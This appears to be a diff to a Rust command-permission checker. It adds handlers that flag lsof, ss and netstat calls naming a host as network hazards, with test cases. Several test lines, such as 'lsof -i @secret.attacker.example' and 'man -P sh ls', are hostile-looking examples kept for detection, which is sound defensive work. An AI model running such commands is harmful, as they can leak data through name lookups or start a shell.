@@ -1,6 +1,7 @@
 //! Programs that tell something about the machine, the user or the time, and change nothing.
 
 use super::super::reading::{Invocation, Reading};
+use super::super::value::Arg;
 use super::super::{Effect, Hazard};
 use super::spec::{Program, Style, custom, only_asks_for_help, safe};
 use alloc::format;
@@ -37,10 +38,8 @@ pub const PROGRAMS: &[Program] = &[
          --pidfile< --session: --terminal: --uid: --single-shot", ":*"),
     safe("pstree", "-a -A -c -C: -g -G -h -H: -l -n -N: -p -s -S -t -T -u -U -Z --arguments --ascii --compact-not --long \
          --numeric-sort --show-parents --show-pids --unicode", ":*"),
-    safe("lsof", "-# -a -b -c: -C -d: -F? -g? -h -i? -K? -l -L -M -n -N -o -O -p: -P -R -s? -t -T? -u: -U -v -V -w -X -x? +c: +D< +d< +L", "<*"),
-    safe("ss netstat", "-0 -4 -6 -a -A: -b -e -E -f: -g -H -i -I: -l -L -m -M -n -o -O -p -P: -Q -r -s -S -t -T -u -v -w -W -x -Z -z --all \
-         --extended --family: --inet --inet6 --info --listening --memory --no-header --numeric --oneline --options --process \
-         --processes --program --raw --resolve --summary --tcp --udp --unix", ":*"),
+    custom("lsof", read_lsof),
+    custom("ss netstat", read_sockets),
     safe("mount", "-l", ""),
     // `top` and its kin only look when they do not wait for keys.
     custom("top htop btop", read_top),
@@ -251,6 +250,46 @@ fn is_object(word: &str) -> bool {
     ["a", "addr", "address", "l", "link", "n", "neigh", "r", "ro", "route", "rule"].contains(&word)
 }
 
+const LSOF: &str = "-# -a -b -c: -C -d: -F? -g? -h -i? -K? -l -L -M -n -N -o -O -p: -P -R -s? -t -T? -u: -U -v -V -w -X -x? +c: +D< +d< +L";
+
+/// `-i @name` asks a name server.
+fn read_lsof(reading: &mut Reading<'_>, call: &Invocation) {
+    let names_host = |arg: &&Arg| arg.text().is_none_or(|text| text.contains('@'));
+    match call.args.iter().find(names_host) {
+        Some(arg) => asks_name_server(reading, call, arg),
+        None => safe("lsof", LSOF, "<*").read(reading, call),
+    }
+}
+
+const SOCKETS: &str = "-0 -4 -6 -a -A: -b -e -E -f: -g -H -i -I: -l -L -m -M -n -o -O -p -P: -Q -r -s -S -t -T -u -v -w -W -x -Z -z --all \
+         --extended --family: --inet --inet6 --info --listening --memory --no-header --numeric --oneline --options --process \
+         --processes --program --raw --resolve --summary --tcp --udp --unix";
+
+/// Words of a filter that name no host.
+const FILTER: &str = "state exclude src dst sport dport eq ne lt le gt ge and or not all connected established syn-sent \
+    syn-recv fin-wait-1 fin-wait-2 time-wait closed close-wait last-ack listening listen closing synchronized bucket big";
+
+/// A host in a filter is looked up at a name server.
+fn read_sockets(reading: &mut Reading<'_>, call: &Invocation) {
+    let is_plain = |text: &str| {
+        text.starts_with('-')
+            || FILTER.split_ascii_whitespace().any(|word| word == text)
+            || text.bytes().all(|b| b.is_ascii_digit() || b":.*=!<>()[]/".contains(&b))
+    };
+    let safe_values = ["inet", "inet6", "unix", "link", "netlink", "tcp", "udp", "raw", "all"];
+    let names_host =
+        |arg: &&Arg| !arg.text().is_some_and(|text| is_plain(text) || safe_values.contains(&text));
+    match call.args.iter().find(names_host) {
+        Some(arg) => asks_name_server(reading, call, arg),
+        None => safe("ss", SOCKETS, ":*").read(reading, call),
+    }
+}
+
+fn asks_name_server(reading: &mut Reading<'_>, call: &Invocation, arg: &Arg) {
+    let message = format!("`{}` may ask a name server for a host that is named", call.name);
+    reading.hazard(Hazard::Network, "network", message, None, arg.span);
+}
+
 #[cfg(test)]
 const EXAMPLES: &str = r#"
         allow date
@@ -277,6 +316,17 @@ const EXAMPLES: &str = r#"
         allow pgrep -fl node
         ask   pkill node
         allow lsof -i :3000
+        allow lsof -nP -iTCP:3000 -sTCP:LISTEN
+        ask   lsof -i @secret.attacker.example
+        ask   lsof -i@secret.attacker.example:80
+        allow lsof -p 1
+        allow ss -tlnp
+        allow ss -ltn sport = :3000
+        allow ss -t state established
+        allow netstat -tulpn
+        ask   ss dst secret.attacker.example
+        ask   ss -t dst $x
+        ask   ss -f secret.attacker.example
         allow which ls
         allow man ls
         ask   man -P sh ls
